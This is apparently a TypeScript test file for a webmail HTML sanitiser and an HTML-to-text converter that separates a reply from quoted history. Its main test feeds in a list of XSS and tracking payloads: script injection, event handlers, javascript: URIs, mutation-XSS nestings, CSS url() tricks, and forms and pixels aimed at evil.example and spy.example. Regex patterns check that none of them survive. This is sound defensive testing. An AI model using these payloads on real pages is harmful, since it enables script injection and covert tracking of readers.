import { describe, expect, test } from 'vitest'
import { sanitiseLetterHtml } from './html-sanitise.ts'
import { htmlToText } from './html-text.ts'

test('conditional comments go with what is in them, the words around stay', () => {
  const html = '<p>one</p><!--[if mso]><p>two</p><!--[if gte]><p>three</p><![endif]--><p>four</p><![endif]-->'
  expect(sanitiseLetterHtml(html)).toBe('<p>one</p><p>four</p>')
})

test('a million open comments do not hold the program up', { timeout: 20_000 }, () => {
  // Looked for with a regular expression from each of them, the ends would take minutes.
  expect(sanitiseLetterHtml(`<p>one</p>${'<!--[if'.repeat(280_000)}`)).toBe('<p>one</p>')
})

const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x /></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="http://spy.example/pixel.gif" alt="pixel">',
  '<img src="//spy.example/p.gif">',
  '<img srcset="http://spy.example/p.gif 1x" src="cid:ok">',
  '<div style="background:url(http://spy.example/p.gif)">x</div>',
  '<div style="background-image:url(\'http://spy.example/p.gif\')">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:\\75\\72\\6c(http://spy.example/p)">x</div>',
  '<div style="-moz-binding:url(http://spy.example/x.xml#a)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<style>@import "http://spy.example/a.css"; body{background:url(http://spy.example/p)}</style>',
  '<link rel=stylesheet href="http://spy.example/a.css">',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example"><input name=password><button>ok</button></form>',
  '<iframe src="http://evil.example"></iframe><frame src="http://evil.example">',
  '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
  '<video src="http://spy.example/v.mp4" poster="http://spy.example/p.jpg"></video><audio src="http://spy.example/a"></audio>',
  '<table background="http://spy.example/p.gif"><tr><td background="http://spy.example/p.gif">x</td></tr></table>',
  '<body onload=alert(1) background="http://spy.example/p.gif">x</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--[if mso]><img src="http://spy.example/p.gif"><![endif]--><!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<<script>alert(1)//<</script>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id="app" class="modal" name="x">x</p>',
  '<a href="https://ok.example" ping="http://spy.example" target="_self" onclick="x()">x</a>',
]

describe('sanitiseLetterHtml', () => {
  test.each(vectors)('%s', (vector) => {
    const clean = sanitiseLetterHtml(`<p>before</p>${vector}<p>after</p>`) ?? ''
    const tags = [...clean.matchAll(/<[^>]*>/g)].map((match) => match[0]).join('\n')
    expect(tags).not.toMatch(
      /script|svg|math|iframe|object|embed|<form|<input|<meta|<base|<link|<style|<video|<audio|noscript|template|xmp/i,
    )
    expect(tags).not.toMatch(
      /\son\w+\s*=|javascript:|vbscript:|data:|expression|url\s*\(|\\7|position|z-index|behavior|binding|srcset|ping=|background=/i,
    )
    expect(tags).not.toMatch(/\s(?:id|class|name)=/)
    expect(tags).not.toMatch(/(?:src|background|poster)="(?:https?:)?\/\//i)
    expect(clean).toContain('before')
  })

  test('what is harmless stays', () => {
    const html =
      '<table width="100%" style="color:#333;padding:4px 8px"><tr><td align="center"><a href="https://vk.com/wall-1_2">Пост</a> <img src="cid:logo" alt="Знак"></td></tr></table>'
    const clean = sanitiseLetterHtml(html) ?? ''
    expect(clean).toContain('style="color:#333;padding:4px 8px"')
    expect(clean).toContain('<img src="cid:logo" alt="Знак" />')
    expect(clean).toContain(
      '<a href="https://vk.com/wall-1_2" rel="noopener noreferrer nofollow" target="_blank">Пост</a>',
    )
    expect(sanitiseLetterHtml('<a href="tel:+79000000000">т</a><a href="mailto:a@b.example">п</a>')).toMatch(
      /tel:.*mailto:/,
    )
  })

  test('nothing left is null', () => {
    expect(sanitiseLetterHtml('<script>x</script>')).toBeNull()
    expect(sanitiseLetterHtml('<p>x</p>'.repeat(300_000))).toBeNull()
  })
})

describe('htmlToText', () => {
  test('lines, tables and entities', () => {
    expect(
      htmlToText(
        '<style>p{}</style><h1>Отзыв</h1><p>Чай&nbsp;вкусный<br>спасибо</p><table><tr><td>Имя:</td><td>Ольга</td></tr></table>',
      ).text,
    ).toBe('Отзыв\n\nЧай вкусный\nспасибо\n\nИмя:\nОльга')
  })

  test('history that programs mark', () => {
    const marks = [
      '<div class="gmail_quote">OLD</div>',
      '<div class="gmail_quote gmail_quote_container">OLD</div>',
      '<blockquote type="cite">OLD</blockquote>',
      '<div class="mail-quote-collapse">OLD</div>',
      '<div id="appendonsend"></div><hr><div id="divRplyFwdMsg">От: Лавка</div><div>OLD</div>',
      '<div class="moz-cite-prefix">Лавка пишет:</div><blockquote type="cite">OLD</blockquote>',
    ]
    for (const mark of marks) {
      const made = htmlToText(`<div>Да, беру</div>${mark}`)
      expect([mark, made.own]).toEqual([mark, 'Да, беру'])
      expect(made.history).toContain('OLD')
      expect(made.text).toContain('OLD')
    }
  })

  test('an answer below the quotation is kept, a letter of quotation only is whole', () => {
    expect(htmlToText('<blockquote type="cite">OLD</blockquote><p>Мой ответ</p>').own).toBe('Мой ответ')
    expect(htmlToText('<div class="gmail_quote">Пересылаю это</div>')).toMatchObject({
      own: 'Пересылаю это',
      history: null,
    })
  })
})
